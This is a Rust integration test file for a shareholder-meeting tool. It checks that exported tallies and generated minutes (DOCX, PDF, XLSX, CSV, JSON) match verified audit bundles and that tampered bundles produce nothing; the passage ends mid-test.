//! The tallies made from an audit bundle (`asamblea export-results`),
//! through the real binary: every figure the verifier's, read back by an
//! independent reader (`calamine` for the workbook), the same bytes from
//! the same bundle, and nothing from a bundle that does not verify.

use std::path::{Path, PathBuf};
use std::process::Command;

use calamine::{Data, Reader};

use crate::support::asamblea;

fn ok(args: &[&str]) -> Vec<u8> {
    crate::support::asamblea_ok(args).stdout
}

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

/// The demo meeting, simulated with a fixed seed and exported.
fn bundle(name: &str) -> (PathBuf, PathBuf) {
    simulated(name, 80, 11)
}

/// The demo meeting simulated with `attendance` % present and the
/// choices of `seed`, exported.
fn simulated(name: &str, attendance: u32, seed: u64) -> (PathBuf, PathBuf) {
    let dir = std::env::temp_dir().join(format!("asamblea-exports-{name}-{}", std::process::id()));
    crate::support::remove_meeting(&dir);
    ok(&["init", s(&dir)]);
    ok(&["simulate", s(&dir), "--attendance", &attendance.to_string(), "--seed", &seed.to_string()]);
    let bundle = dir.with_extension("bundle");
    ok(&["export", s(&dir), s(&bundle)]);
    (dir, bundle)
}

/// A meeting that never reached its quorum: the acta still lists the
/// whole agenda as convened, says no item was put to the vote and why the
/// session ended, and leaves out the empty quorum tables.
#[test]
fn an_acta_without_quorum_lists_the_agenda_as_not_voted_and_says_why() {
    let dir = std::env::temp_dir().join(format!("asamblea-exports-noquorum-{}", std::process::id()));
    crate::support::remove_meeting(&dir);
    ok(&["init", s(&dir)]);
    let bundle = dir.with_extension("bundle");
    ok(&["export", s(&dir), s(&bundle)]);
    let acta = dir.with_extension("docx");
    ok(&["acta", s(&bundle), "-o", s(&acta)]);
    let text = docx_text(&acta);
    assert_eq!(text.matches("Este punto no se sometió a votación.").count(), 7, "{text}");
    for expected in [
        "Aprobación del orden del día",
        "Conversión de acciones preferenciales en ordinarias",
        "No se abrió ninguna votación. Al levantarse la sesión había 0 acciones con voto de 0 accionistas",
        "SIN quórum",
        "Sin el quórum de esta convocatoria no se votó el orden del día",
        "No se presentaron constancias escritas en la sala.",
        "No se enviaron constancias escritas a distancia.",
        "No se recibieron preguntas a distancia.",
    ] {
        assert!(text.contains(expected), "the acta lacks «{expected}»: {text}");
    }
    for absent in ["Agotado el orden del día", "Presentes por clase de acción", "Punto | Momento"] {
        assert!(!text.contains(absent), "the acta says «{absent}»: {text}");
    }
}

#[test]
fn the_workbook_holds_the_verifiers_figures_as_numbers_and_the_same_bundle_gives_the_same_bytes() {
    let (dir, bundle) = bundle("xlsx");
    let verified: serde_json::Value = serde_json::from_slice(&ok(&["verify", s(&bundle), "--json"])).unwrap();
    let book = dir.with_extension("xlsx");
    ok(&["export-results", s(&bundle), "--format", "xlsx", "-o", s(&book)]);
    let first = std::fs::read(&book).unwrap();
    ok(&["export-results", s(&bundle), "--format", "xlsx", "-o", s(&book)]);
    assert_eq!(first, std::fs::read(&book).unwrap(), "the same bundle, the same workbook, byte for byte");

    let mut workbook: calamine::Xlsx<_> = calamine::open_workbook(&book).expect("an Excel workbook");
    assert_eq!(
        workbook.sheet_names(),
        ["puntos", "accionistas", "asistencia", "retiro", "listas", "poderes"]
    );
    let items = workbook.worksheet_range("puntos").unwrap();
    let headings: Vec<String> = items.rows().next().unwrap().iter().map(|c| c.to_string()).collect();
    let column = |name: &str| headings.iter().position(|h| h.starts_with(name)).unwrap();
    let mut decisions = 0;
    let closed = verified["items"].as_array().unwrap().iter().filter(|item| item["state"] == "closed");
    for (row, item) in items.rows().skip(1).zip(closed) {
        assert_eq!(row[column("punto")].to_string(), item["id"].as_str().unwrap());
        let result = &item["result"];
        if result.get("for").is_none() {
            continue; // an election: its lists, in words
        }
        decisions += 1;
        for (key, heading) in [
            ("for", "a favor"),
            ("against", "en contra"),
            ("blank", "en blanco"),
            ("abstain", "abstención"),
            ("impeded", "impedidas"),
            ("present", "presentes"),
            ("base", "base"),
        ] {
            assert_eq!(
                row[column(heading)],
                Data::Float(result[key].as_u64().unwrap() as f64),
                "{key} of {}",
                item["id"]
            );
        }
        // The share for as a number a spreadsheet sums and sorts (with a
        // percent format), truncated to hundredths of a per cent.
        let (yes, base) = (result["for"].as_u64().unwrap(), result["base"].as_u64().unwrap());
        let expected = (u128::from(yes) * 10_000 / u128::from(base)) as f64 / 10_000.0;
        match &row[column("% a favor")] {
            Data::Float(share) => assert!((share - expected).abs() < 1e-9, "{share} for {expected}"),
            other => panic!("% a favor of {} is not a number: {other:?}", item["id"]),
        }
        // Every share present at the close is accounted for once.
        let sum: u64 = ["for", "against", "blank", "abstain", "impeded"]
            .iter()
            .map(|k| result[k].as_u64().unwrap())
            .sum();
        assert_eq!(sum, result["present"].as_u64().unwrap(), "{}", item["id"]);
    }
    assert!(decisions >= 4, "the demo's decisions were compared");
    // One row per holder, each closed item's vote in words.
    let holders = workbook.worksheet_range("accionistas").unwrap();
    assert_eq!(holders.height(), 1 + 300, "a row per holder of the demo's register");
    let nit = holders
        .rows()
        .find(|r| matches!(&r[0], Data::String(id) if id == "NIT-800100200"))
        .expect("the largest holder");
    assert_eq!(nit[1].to_string(), "Fondo de Pensiones Porvenir del Sur S.A.");
    assert_eq!(nit[2], Data::Float(18_000_000.0));
    // Each vote's column is headed by its item's title, not its id.
    let heads: Vec<String> = holders.rows().next().unwrap().iter().map(|c| c.to_string()).collect();
    let titled: Vec<(String, String)> = verified["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|item| item["state"] == "closed")
        .map(|item| {
            (item["id"].as_str().unwrap().to_string(), item["title"].as_str().unwrap_or("").to_string())
        })
        .collect();
    assert!(!titled.is_empty());
    for (id, title) in &titled {
        assert!(
            heads.iter().any(|h| h.starts_with(title.as_str()) && !title.is_empty()),
            "{title}: {heads:?}"
        );
        assert!(!heads.iter().any(|h| h.starts_with(id.as_str())), "{id} heads a column: {heads:?}");
    }
    // An election's lists, each figure in a cell of its own.
    let lists = workbook.worksheet_range("listas").unwrap();
    let elections = verified["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|item| item["state"] == "closed" && item["result"]["votes"].is_object());
    let mut rows = 0;
    for item in elections {
        let result = &item["result"];
        for (list, votes) in result["votes"].as_object().unwrap() {
            let row = lists
                .rows()
                .find(|r| {
                    matches!((&r[0], &r[2]), (Data::String(id), Data::String(name)) if id == item["id"].as_str().unwrap() && name == list)
                })
                .unwrap_or_else(|| panic!("a row for {list} of {}", item["id"]));
            assert_eq!(row[3], Data::Float(votes.as_u64().unwrap() as f64), "{list}");
            let seats = result["seats"][list].as_u64().unwrap_or(0);
            assert_eq!(row[7], Data::Float(seats as f64), "{list}");
            rows += 1;
        }
    }
    assert!(rows >= 2, "the demo's elections' lists were compared");
    assert_eq!(lists.height(), 1 + rows, "a row per list of each closed election");
    // It prints: LibreOffice lays every sheet a page wide, landscape (it
    // printed 81 pages of one column each before).
    match office_calc() {
        None => crate::webdriver::not_run(
            "exports::the_workbook_prints_a_page_wide",
            "no LibreOffice Calc or pdfinfo (apt-get install libreoffice-calc-nogui poppler-utils)",
        ),
        Some(office) => {
            let out = dir.with_extension("xlsx-pdf");
            std::fs::create_dir_all(&out).unwrap();
            // A profile of its own: two LibreOffice started at once (the
            // acta's test runs beside this one) share the default one and
            // the second fails.
            let converted = Command::new(office)
                .arg(format!("-env:UserInstallation=file://{}", dir.with_extension("calc-profile").display()))
                .args(["--headless", "--convert-to", "pdf", "--outdir"])
                .arg(&out)
                .arg(&book)
                .output()
                .unwrap();
            assert!(converted.status.success(), "{}", String::from_utf8_lossy(&converted.stderr));
            let pdf = out.join(book.with_extension("pdf").file_name().unwrap());
            let info = Command::new("pdfinfo").arg(&pdf).output().unwrap();
            let info = String::from_utf8_lossy(&info.stdout).to_string();
            let pages: u32 = info
                .lines()
                .find_map(|l| l.strip_prefix("Pages:"))
                .and_then(|n| n.trim().parse().ok())
                .unwrap_or_else(|| panic!("{info}"));
            // 300 holders and 5 short tables: a dozen landscape pages, not
            // a column a page.
            assert!(pages <= 20, "the workbook prints on {pages} pages");
            assert!(info.contains("792 x 612"), "landscape Carta: {info}");
            // The items' sheet is one page wide: its first page holds its
            // last column's heading.
            let first =
                Command::new("pdftotext").args(["-f", "1", "-l", "1"]).arg(&pdf).arg("-").output().unwrap();
            let first =
                String::from_utf8_lossy(&first.stdout).split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(first.contains("por qué") && first.contains("punto"), "{first}");
            let _ = std::fs::remove_dir_all(out);
            let _ = std::fs::remove_dir_all(dir.with_extension("calc-profile"));
        }
    }
    crate::support::remove_meeting(&dir);
    let _ = std::fs::remove_file(book);
    let _ = std::fs::remove_file(bundle);
}

#[test]
fn csv_comes_for_excel_in_colombia_by_default_and_plain_on_request_and_json_is_keyed() {
    let (dir, bundle) = bundle("csv");
    let excel = String::from_utf8(ok(&["export-results", s(&bundle), "--format", "csv"])).unwrap();
    assert!(excel.starts_with("\u{feff}punto (item);título (title);"), "{excel}");
    assert!(excel.contains("\r\nitem-1;Aprobación del orden del día;"));
    let plain = String::from_utf8(ok(&[
        "export-results",
        s(&bundle),
        "--format",
        "csv",
        "--csv-plain",
        "--table",
        "accionistas",
    ]))
    .unwrap();
    assert!(plain.starts_with("documento (id),nombre (name),ordinarias (ordinary),"), "{plain}");
    // A name with a comma is quoted.
    assert!(plain.contains("\"Inversiones Alfa, S.A.S.\""), "{plain}");
    let json: serde_json::Value =
        serde_json::from_slice(&ok(&["export-results", s(&bundle), "--format", "json"])).unwrap();
    assert_eq!(json["schema"], "asamblea-resultados/2");
    assert_eq!(json["meeting"]["company"], "Inversiones Andinas S.A.");
    assert_eq!(json["tables"]["puntos"][0]["item"], "item-1");
    assert!(json["tables"]["puntos"][0]["for"].is_u64());
    assert_eq!(json["tables"]["accionistas"].as_array().unwrap().len(), 300);
    // The whole items table and the meeting, as a reviewer reads them (the
    // chain's head differs from run to run: keys and nonces are random).
    insta::assert_snapshot!("puntos_csv", excel);
    let mut shown = json.clone();
    shown["verified"]["head"] = serde_json::json!("[head]");
    for table in ["accionistas", "asistencia"] {
        shown["tables"][table] =
            serde_json::json!(format!("[{} rows]", json["tables"][table].as_array().unwrap().len()));
    }
    insta::assert_json_snapshot!("results_json", shown);
    crate::support::remove_meeting(&dir);
    let _ = std::fs::remove_file(bundle);
}

#[test]
fn a_bundle_that_does_not_verify_gives_no_tallies() {
    let (dir, bundle) = bundle("tampered");
    let mut bytes = std::fs::read(&bundle).unwrap();
    let at = bytes.len() / 2;
    bytes[at] ^= 1;
    std::fs::write(&bundle, &bytes).unwrap();
    let book = dir.with_extension("xlsx");
    let out = asamblea(&["export-results", s(&bundle), "--format", "xlsx", "-o", s(&book)]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stdout));
    assert!(String::from_utf8_lossy(&out.stdout).contains("no se escribe ningún resultado"));
    assert!(!book.exists(), "nothing written");
    crate::support::remove_meeting(&dir);
    let _ = std::fs::remove_file(bundle);
}

/// For every meeting of the conformance scenarios — every rule path:
/// impeded administrators, preferred shares, both bases, elections,
/// withdrawal — recorded as the daemon records one: the items table of its
/// tallies carries, for each decision, exactly the figures the ledger
/// published (and the verifier recomputed), and every share present at
/// the close is accounted for once (for + against + blank + abstained +
/// impeded = present).
#[test]
fn every_scenarios_tallies_are_the_published_figures_and_add_up() {
    use asamblea::scenario;
    use asamblea_documents::tables::Cell;
    let mut compared = 0;
    for file in crate::scenarios::scenario_files() {
        let name = file.display().to_string();
        let parsed =
            scenario::parse(&name, &std::fs::read_to_string(&file).unwrap()).expect("valid scenario");
        let work = std::env::temp_dir().join(format!(
            "asamblea-exports-scenario-{}-{}",
            std::process::id(),
            file.file_stem().unwrap().to_string_lossy()
        ));
        crate::support::remove_meeting(&work);
        let bundle = scenario::record(&parsed, &work).unwrap_or_else(|e| panic!("{name}: {e:#}"));
        crate::support::remove_meeting(&work);
        let path = work.with_extension("bundle");
        std::fs::write(&path, bundle.encode()).unwrap();
        let opened = std::fs::File::open(&path).unwrap();
        let report = asamblea_server::reports::from_bundle(&opened, &mut |_, _| {})
            .unwrap_or_else(|e| panic!("{name}: {e}"));
        let _ = std::fs::remove_file(&path);
        let mut published = std::collections::HashMap::new();
        for (bytes, _) in &bundle.records {
            let record = asamblea_wire::EventRecord::decode(bytes).unwrap();
            if let asamblea_wire::EventBody::ResultPublished { item, result } = record.event.body {
                published.insert(item.as_str().to_string(), result);
            }
        }
        let items = &report.tables[0];
        let at = |key: &str| items.columns.iter().position(|(k, _)| k == key).unwrap();
        for row in &items.rows {
            let Cell::Text(item) = &row[at("item")] else { panic!("an item id") };
            let Some(asamblea_wire::PublishedResult::Decision(d)) = published.get(item) else { continue };
            let figure = |key: &str| match &row[at(key)] {
                Cell::Number(n) => *n,
                other => panic!("{name} `{item}` {key}: {other:?}"),
            };
            for (key, expected) in [
                ("for", d.for_votes),
                ("against", d.against),
                ("blank", d.blank),
                ("abstain", d.abstain),
                ("impeded", d.impeded),
                ("present", d.present),
                ("base", d.base),
            ] {
                assert_eq!(figure(key), expected.get(), "{name} `{item}` {key}");
            }
            let sum: u64 = ["for", "against", "blank", "abstain", "impeded"].iter().map(|k| figure(k)).sum();
            assert_eq!(sum, figure("present"), "{name} `{item}`: every share present once");
            compared += 1;
        }
    }
    assert!(compared >= 40, "only {compared} decisions compared");
}

/// The text of a DOCX's body (`word/document.xml`), its tags dropped.
pub(crate) fn docx_text(path: &Path) -> String {
    docx_paragraphs(path).replace(" | ", " ").split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The text of a DOCX's body, a line per paragraph (a table row's cells
/// joined by ` | `).
fn docx_paragraphs(path: &Path) -> String {
    use std::io::Read;
    let mut archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).expect("a zip archive");
    let mut xml = String::new();
    archive.by_name("word/document.xml").expect("a Word document").read_to_string(&mut xml).unwrap();
    let xml = xml.replace("</w:p></w:tc>", " | ").replace("</w:tr>", "\n").replace("</w:p>", "\n");
    let mut text = String::new();
    let mut in_tag = false;
    for c in xml.chars() {
        match c {
            '<' => in_tag = true,
            '>' => {
                in_tag = false;
                text.push(' ');
            }
            c if !in_tag => text.push(c),
            _ => {}
        }
    }
    text.lines()
        .map(|line| line.split_whitespace().collect::<Vec<_>>().join(" "))
        .map(|line| line.trim_end_matches(" |").trim().to_string())
        .filter(|line| !line.is_empty())
        .collect::<Vec<_>>()
        .join("\n")
}

/// The DOCX's paragraphs are `Normal` when they name no style, as Word,
/// LibreOffice and python-docx read it (the style marked
/// `w:default="1"`, and no other paragraph style so marked), and the
/// document says it is Spanish of Colombia: in the run defaults, which
/// Word's spelling checker follows, and in its core properties.
fn docx_is_spanish_with_normal_the_default_style(path: &Path) {
    use std::io::Read;
    let mut archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).expect("a zip archive");
    let mut part = |name: &str| {
        let mut xml = String::new();
        archive.by_name(name).unwrap_or_else(|_| panic!("{name}")).read_to_string(&mut xml).unwrap();
        xml
    };
    let (styles, core, body) =
        (part("word/styles.xml"), part("docProps/core.xml"), part("word/document.xml"));
    let defaults: Vec<&str> =
        styles.split("<w:style ").skip(1).filter(|s| s.contains("w:default=\"1\"")).collect();
    assert_eq!(defaults.len(), 1, "one default style: {defaults:?}");
    assert!(defaults[0].starts_with(r#"w:type="paragraph" w:styleId="Normal""#), "{}", defaults[0]);
    let run_defaults =
        &styles[styles.find("<w:rPrDefault>").unwrap()..styles.find("</w:rPrDefault>").unwrap()];
    assert!(run_defaults.contains(r#"<w:lang w:val="es-CO""#), "{run_defaults}");
    assert!(core.contains("<dc:language>es-CO</dc:language>"), "{core}");
    // No run sets another language over the default.
    assert!(!body.contains("<w:lang"), "a run with a language of its own");
    // Most paragraphs name no style: they are Normal by the default.
    let paragraphs = body.matches("<w:p>").count() + body.matches("<w:p ").count();
    let styled = body.matches("<w:pStyle ").count();
    assert!(paragraphs > 40 && styled < paragraphs / 2, "{styled} of {paragraphs} paragraphs styled");
}

/// The acta's text with what changes from run to run replaced: the
/// ledger's times and the day they were written (the simulation runs
/// now), and so its heads, the bundle's digest and the daemon's key (long
/// runs of hex digits).
fn redacted(text: &str) -> String {
    // The acts of the sessions happen when the simulation runs: their day
    // is the clock's, in the first section's sentence and in the table.
    let text = match (text.find("Se instaló el "), text.find(" a las ")) {
        (Some(from), Some(_)) => match text[from..].find(" a las ") {
            Some(to) => format!("{}Se instaló el [día]{}", &text[..from], &text[from + to..]),
            None => text.to_string(),
        },
        _ => text.to_string(),
    };
    let text: String = text
        .split_inclusive('\n')
        .map(|line| {
            let step = ["Instalación | ", "Suspensión | ", "Reanudación | ", "Levantamiento de la sesión | "]
                .iter()
                .find(|step| line.starts_with(**step));
            // Only where the field is a day in words (the sessions' table),
            // not an hour (the attendance's totals).
            let dated = step.and_then(|step| line[step.len()..].find(" | ").map(|to| (step, to)));
            match dated.filter(|(step, to)| line[step.len()..step.len() + to].contains(" de ")) {
                Some((step, to)) => format!("{step}[día]{}", &line[step.len() + to..]),
                None => line.to_string(),
            }
        })
        .collect();
    let text = match (text.find("registradas el "), text.find("Al abrirse la primera votación")) {
        (Some(from), Some(to)) if from < to => {
            format!("{}registradas el [día]. {}", &text[..from], &text[to..])
        }
        _ => text.to_string(),
    };
    let text = match text.find("Fecha y hora de cierre: ") {
        Some(from) => match text[from..].find(", a las ") {
            Some(to) => format!("{}Fecha y hora de cierre: [día]{}", &text[..from], &text[from + to..]),
            None => text.to_string(),
        },
        None => text.to_string(),
    };
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        let hex = chars[i..].iter().take_while(|c| c.is_ascii_hexdigit()).count();
        // HH:MM alone: not the tail of a longer number ("1918:52ab…").
        let clock = chars.len() >= i + 5
            && (i == 0 || !chars[i - 1].is_ascii_alphanumeric())
            && chars.get(i + 5).is_none_or(|c| !c.is_ascii_alphanumeric())
            && chars[i..i + 5]
                .iter()
                .enumerate()
                .all(|(k, c)| if k == 2 { *c == ':' } else { c.is_ascii_digit() });
        if hex >= 32 {
            out.push_str("[hex]");
            i += hex;
        } else if clock
            && chars.get(i + 5) == Some(&':')
            && chars.get(i + 6..i + 8).is_some_and(|s| s.iter().all(char::is_ascii_digit))
        {
            // HH:MM:SS (the poll timing's table).
            out.push_str("[hh:mm:ss]");
            i += 8;
        } else if clock {
            out.push_str("[hh:mm]");
            i += 5;
        } else {
            out.push(chars[i]);
            i += 1;
        }
    }
    out
}

#[test]
fn the_acta_carries_what_the_law_asks_from_the_bundle_alone_and_is_the_same_for_the_same_bundle() {
    let (dir, bundle) = bundle("acta");
    let verified: serde_json::Value = serde_json::from_slice(&ok(&["verify", s(&bundle), "--json"])).unwrap();
    let acta = dir.with_extension("docx");
    ok(&["acta", s(&bundle), "-o", s(&acta)]);
    let first = std::fs::read(&acta).unwrap();
    ok(&["acta", s(&bundle), "-o", s(&acta)]);
    assert_eq!(first, std::fs::read(&acta).unwrap(), "the same bundle, the same acta, byte for byte");
    let said = String::from_utf8(ok(&["acta", s(&bundle), "--check", s(&acta)])).unwrap();
    assert!(said.contains("ES EL ACTA"), "{said}");

    let text = docx_text(&acta);
    let sha = asamblea_wire::Digest::sha256(&std::fs::read(&bundle).unwrap()).to_string();
    for expected in [
        // The meeting, its place, date and call, and its notice (R19, Decreto 398).
        "ACTA DE LA ASAMBLEA GENERAL ORDINARIA DE ACCIONISTAS",
        "Inversiones Andinas S.A. — NIT 900.123.456-7",
        "se reunió el martes 30 de marzo de 2027 a las 10:00 en Bogotá D.C., Carrera 7 # 71-21",
        "en primera convocatoria",
        // The notice's days, both counted by one convention (neither end:
        // docs/rules.md §12.1), and what the agenda asked.
        "Convocatoria: Aviso publicado en El Tiempo y en la página web de la sociedad, el 2 de marzo de 2027. Entre la convocatoria y la reunión, sin contar el día de la una ni el de la otra, hubo 27 días comunes y 16 días hábiles",
        "El orden del día pedía al menos 15 días hábiles (C.Co. art. 424, por el asunto «estados financieros de fin de ejercicio»).",
        // Its number, who chaired and took the minutes and how designated:
        // no gender spliced in, the designation the secretary's sentence.
        "Acta n.º 045",
        "Presidió la reunión María Fernanda Gómez Rueda. Ejerció la secretaría Carlos Andrés Restrepo Vélez. Ambos fueron designados por unanimidad de los accionistas presentes al instalarse la reunión.",
        // The capital per class, the quorum and its continuity.
        "Ordinarias 100.000.000 2.000.000 98.000.000",
        "Quórum de esta convocatoria: más de la mitad de las acciones con derecho a voto",
        "apertura",
        "cierre",
        "Al abrirse la primera votación, a las ",
        "Fecha y hora de cierre: ",
        "Se instaló el ",
        "Presentes por clase de acción",
        "6. Constancias escritas",
        // Who attended, and how; who carried whom.
        "Fondo de Pensiones Porvenir del Sur S.A.",
        "Asistieron en algún momento de la reunión 208 personas, por 229 accionistas con 82.746.706 acciones",
        "La reunión se instaló a las ",
        "según el acto de instalación del libro electrónico (registro n.º",
        "Administradores y empleados (art. 185 C.Co.)",
        "Apoderados y representantes legales",
        "Fondo de Pensiones Porvenir del Sur S.A. (NIT-800100200)",
        // The rule, the decision and its figures, an election's lists.
        "Regla: mayoría de las acciones presentes",
        "Decisión: APROBADO.",
        "Por cuociente",
        // Closing, signatures (a line to sign on, the name and the title
        // in its gender under it), and the annex that lets anyone check it.
        "________________________________ María Fernanda Gómez Rueda Presidenta de la reunión",
        "________________________________ Carlos Andrés Restrepo Vélez Secretario de la reunión",
        "________________________________ Luisa Martínez Ortiz Comisión aprobatoria del acta",
        "________________________________ Jorge Rojas Ruiz Comisión aprobatoria del acta",
        "asamblea verify paquete.bundle --daemon-key",
    ] {
        assert!(text.contains(expected), "the acta lacks «{expected}»");
    }
    assert!(text.contains(&sha), "the annex names the bundle's SHA-256");
    for wrong in ["actuó como secretario", "Fue convocada por Aviso", "días calendario"] {
        assert!(!text.contains(wrong), "the acta still says «{wrong}»");
    }
    insta::assert_snapshot!("acta_text", redacted(&docx_paragraphs(&acta)));
    docx_is_spanish_with_normal_the_default_style(&acta);
    for item in verified["items"].as_array().unwrap() {
        assert!(text.contains(item["title"].as_str().unwrap()), "{}", item["title"]);
        if let Some(votes) = item["result"]["for"].as_u64() {
            let figure = asamblea_documents::numfmt::thousands(votes);
            assert!(text.contains(&format!("A favor {figure}")), "{}: for {figure}", item["id"]);
        }
    }

    // A real word processor opens it: LibreOffice turns it into a PDF whose
    // text (pdftotext) says the same.
    match which_office() {
        None => crate::webdriver::not_run(
            "exports::the_acta_opens_in_libreoffice",
            "no LibreOffice or pdftotext (apt-get install libreoffice-writer-nogui poppler-utils)",
        ),
        Some(office) => {
            let out = dir.with_extension("pdf-out");
            std::fs::create_dir_all(&out).unwrap();
            // The acta converted by LibreOffice to `format`, in `out`.
            let convert = |format: &str| {
                let converted = Command::new(office)
                    .arg(format!(
                        "-env:UserInstallation=file://{}",
                        dir.with_extension("writer-profile").display()
                    ))
                    .args(["--headless", "--convert-to", format, "--outdir"])
                    .arg(&out)
                    .arg(&acta)
                    .output()
                    .unwrap();
                assert!(converted.status.success(), "{}", String::from_utf8_lossy(&converted.stderr));
                out.join(acta.with_extension(format).file_name().unwrap())
            };
            let pdf = convert("pdf");
            let text = Command::new("pdftotext").arg(&pdf).arg("-").output().unwrap();
            let text = String::from_utf8_lossy(&text.stdout).split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(text.contains("ACTA DE LA ASAMBLEA GENERAL ORDINARIA") && text.contains(&sha), "{text}");
            let pages = Command::new("pdfinfo").arg(&pdf).output().unwrap();
            assert!(String::from_utf8_lossy(&pages.stdout).contains("(letter)"), "laid out on Carta");
            assert!(
                text.contains("________________________________")
                    && text.contains("Secretario de la reunión"),
                "the signature lines and titles: {text}"
            );
            // LibreOffice reads the language (es-CO): as flat ODF, its
            // default paragraph properties carry it.
            let flat = std::fs::read_to_string(convert("fodt")).unwrap();
            let defaults =
                &flat[flat.find("<style:default-style style:family=\"paragraph\"").expect("defaults")..];
            let defaults = &defaults[..defaults.find("</style:default-style>").unwrap()];
            assert!(
                defaults.contains(r#"fo:language="es""#) && defaults.contains(r#"fo:country="CO""#),
                "LibreOffice reads no es-CO: {defaults}"
            );
            let _ = std::fs::remove_dir_all(out);
            let _ = std::fs::remove_dir_all(dir.with_extension("writer-profile"));
        }
    }

    // Another file is not the acta; a bundle that does not verify has none.
    std::fs::write(&acta, b"otra cosa").unwrap();
    let out = asamblea(&["acta", s(&bundle), "--check", s(&acta)]);
    assert_eq!(out.status.code(), Some(1));
    let mut bytes = std::fs::read(&bundle).unwrap();
    let at = bytes.len() / 2;
    bytes[at] ^= 1;
    std::fs::write(&bundle, &bytes).unwrap();
    let _ = std::fs::remove_file(&acta);
    let out = asamblea(&["acta", s(&bundle), "-o", s(&acta)]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stdout));
    assert!(!acta.exists(), "no acta from a bundle that does not verify");
    crate::support::remove_meeting(&dir);
    let _ = std::fs::remove_file(bundle);
}

/// LibreOffice's command and pdftotext, if both are here.
fn which_office() -> Option<&'static str> {
    poppler().then_some(())?;
    ["soffice", "libreoffice"].into_iter().find(|office| runs(office, "--version"))
}

/// LibreOffice's command, if it has Calc (a workbook to PDF) and poppler
/// is here.
fn office_calc() -> Option<&'static str> {
    let office = which_office()?;
    let calc = ["/usr/lib/libreoffice/program/libscfiltlo.so", "/usr/lib/libreoffice/program/libsclo.so"];
    calc.iter().any(|lib| Path::new(lib).exists()).then_some(office)
}

/// Whether poppler's `pdftotext` and `pdfinfo` run here.
pub(crate) fn poppler() -> bool {
    runs("pdftotext", "-v") && runs("pdfinfo", "-v")
}

fn runs(program: &str, flag: &str) -> bool {
    Command::new(program).arg(flag).output().is_ok_and(|o| o.status.success())
}

/// Meetings drawn at random (the seed of each run of this test, printed so
/// a failure can be replayed with `ASAMBLEA_EXPORTS_SEED`): attendance and
/// every ballot's choice vary; the JSON export's items carry the figures
/// `verify --json` re-derives, and every share present at a decision's
/// close is accounted for once.
#[test]
fn random_meetings_tallies_add_up_and_are_the_verifiers() {
    let base: u64 =
        std::env::var("ASAMBLEA_EXPORTS_SEED").ok().and_then(|s| s.parse().ok()).unwrap_or_else(|| {
            std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()
        });
    eprintln!("ASAMBLEA_EXPORTS_SEED={base}");
    for run in 0..3u64 {
        let seed = base.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(run);
        let attendance = 40 + (seed % 61) as u32;
        let (dir, bundle) = simulated(&format!("random-{run}"), attendance, seed % 1_000_000);
        let verified: serde_json::Value =
            serde_json::from_slice(&ok(&["verify", s(&bundle), "--json"])).unwrap();
        let json: serde_json::Value =
            serde_json::from_slice(&ok(&["export-results", s(&bundle), "--format", "json"])).unwrap();
        let rows = json["tables"]["puntos"].as_array().unwrap();
        // `verify --json` lists every item of the agenda with its state;
        // the workbook has a row per closed one.
        let items: Vec<&serde_json::Value> =
            verified["items"].as_array().unwrap().iter().filter(|item| item["state"] == "closed").collect();
        assert_eq!(rows.len(), items.len(), "seed {base}, run {run}: an item row per closed item");
        for (row, item) in rows.iter().zip(items) {
            assert_eq!(row["item"], item["id"]);
            let result = &item["result"];
            let Some(present) = result["present"].as_u64() else { continue };
            for key in ["for", "against", "blank", "abstain", "impeded", "present", "base"] {
                assert_eq!(row[key], result[key], "seed {base}, run {run}, {}: {key}", item["id"]);
            }
            let sum: u64 = ["for", "against", "blank", "abstain", "impeded"]
                .iter()
                .map(|k| row[k].as_u64().unwrap())
                .sum();
            assert_eq!(sum, present, "seed {base}, run {run}, {}: every share present once", item["id"]);
        }
        crate::support::remove_meeting(&dir);
        let _ = std::fs::remove_file(bundle);
    }
}

#[test]
fn the_acta_as_pdf_is_text_with_its_fonts_embedded_on_carta_or_a4() {
    let (dir, bundle) = bundle("acta-pdf");
    let pdf = dir.with_extension("pdf");
    ok(&["acta", s(&bundle), "--format", "pdf", "-o", s(&pdf)]);
    let first = std::fs::read(&pdf).unwrap();
    assert!(first.starts_with(b"%PDF-"), "a PDF");
    ok(&["acta", s(&bundle), "--format", "pdf", "-o", s(&pdf)]);
    assert_eq!(first, std::fs::read(&pdf).unwrap(), "the same bundle, the same PDF, byte for byte");
    assert!(String::from_utf8(ok(&["acta", s(&bundle), "--format", "pdf", "--check", s(&pdf)]))
        .unwrap()
        .contains("ES EL ACTA"));
    let a4 = dir.with_extension("a4.pdf");
    // The format from -o's extension; --check finds the format and the paper.
    ok(&["acta", s(&bundle), "--paper", "a4", "-o", s(&a4)]);
    assert!(std::fs::read(&a4).unwrap().starts_with(b"%PDF-"), "-o FILE.pdf writes a PDF");
    assert!(String::from_utf8(ok(&["acta", s(&bundle), "--check", s(&a4)])).unwrap().contains("ES EL ACTA"));
    assert!(String::from_utf8(ok(&["acta", s(&bundle), "--check", s(&pdf)])).unwrap().contains("ES EL ACTA"));
    match poppler() {
        false => crate::webdriver::not_run(
            "exports::the_acta_as_pdf_is_read_by_poppler",
            "no pdftotext (apt-get install poppler-utils)",
        ),
        true => {
            let info = |file: &Path| {
                String::from_utf8(Command::new("pdfinfo").arg(file).output().unwrap().stdout).unwrap()
            };
            assert!(info(&pdf).contains("(letter)"), "{}", info(&pdf));
            assert!(info(&a4).contains("(A4)"), "{}", info(&a4));
            // Every font embedded: the accents and the ñ print the same anywhere.
            let fonts =
                String::from_utf8(Command::new("pdffonts").arg(&pdf).output().unwrap().stdout).unwrap();
            let faces: Vec<&str> = fonts.lines().skip(2).collect();
            assert!(
                !faces.is_empty() && faces.iter().all(|l| l.split_whitespace().rev().nth(4) == Some("yes")),
                "{fonts}"
            );
            // Text, not a picture of text: pdftotext reads what the acta says.
            let text = Command::new("pdftotext").arg(&pdf).arg("-").output().unwrap();
